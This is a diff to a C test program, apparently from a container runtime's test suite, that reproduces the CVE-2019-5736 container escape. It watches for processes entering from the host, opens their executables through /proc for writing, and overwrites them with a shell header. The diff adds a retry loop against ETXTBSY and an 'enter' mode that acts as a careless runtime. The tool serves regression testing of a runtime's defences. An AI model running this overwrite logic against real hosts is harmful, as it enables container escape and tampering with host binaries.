@@ -1,16 +1,25 @@
 /* SPDX-License-Identifier: GPL-2.0-or-later */
 /*
- * overwrite SECONDS: the attack of CVE-2019-5736 from inside a container: looks for processes that come in from outside and
+ * overwrite SECONDS
+ * overwrite enter PID
+ *
+ * The first is the attack of CVE-2019-5736 from inside a container: looks for processes that come in from outside and
  * opens what they execute for writing, at once and later through a descriptor it keeps; also their root, their working folder and
  * their descriptors.  Prints a line for each thing that it should not have got.
+ *
+ * The second is a careless runtime, to show that the first works: it enters the pid namespace of PID with the program that it was
+ * started from, and stays for a moment.  (Start it from a copy: the copy is what gets overwritten.)
  */
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <sched.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -35,18 +44,21 @@ static void try_exe(const char *pid)
 		return;
 	}
 	snprintf(by_fd, sizeof(by_fd), "/proc/self/fd/%d", held);
-	for (int i = 0; i < 200; i++) {
+	/* As long as it runs the answer is ETXTBSY; the moment it ends is ours.  A sealed file says EPERM, for good. */
+	for (int i = 0; i < 3000; i++) {
 		fd = open(by_fd, O_WRONLY | O_CLOEXEC);
-		if (fd < 0)
-			fd = open(by_fd, O_WRONLY | O_TRUNC | O_CLOEXEC);
+		if (fd < 0 && errno == ETXTBSY) {
+			usleep(100);
+			continue;
+		}
 		if (fd >= 0) {
 			if (write(fd, "#!/bin/sh\n", 10) == 10)
 				printf("overwrote %s\n", link);
 			else if (errno != EPERM)
 				printf("opened %s: %s\n", link, strerror(errno));
 			close(fd);
-			break;
 		}
+		break;
 	}
 	close(held);
 }
@@ -85,11 +97,30 @@ static void try_fds(const char *pid)
 		closedir(dir);
 }
 
+static int enter(const char *pid)
+{
+	int pidfd = syscall(SYS_pidfd_open, atoi(pid), 0);
+	pid_t child;
+
+	if (pidfd < 0 || setns(pidfd, CLONE_NEWPID)) {
+		perror(pid);
+		return 1;
+	}
+	child = fork();
+	if (!child) {
+		usleep(100000);
+		_exit(0);
+	}
+	return child < 0 || waitpid(child, NULL, 0) < 0;
+}
+
 int main(int argc, char **argv)
 {
 	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 5);
 	pid_t self = getpid();
 
+	if (argc == 3 && !strcmp(argv[1], "enter"))
+		return enter(argv[2]);
 	stat("/", &own_root);
 	puts("ready");
 	fflush(stdout);
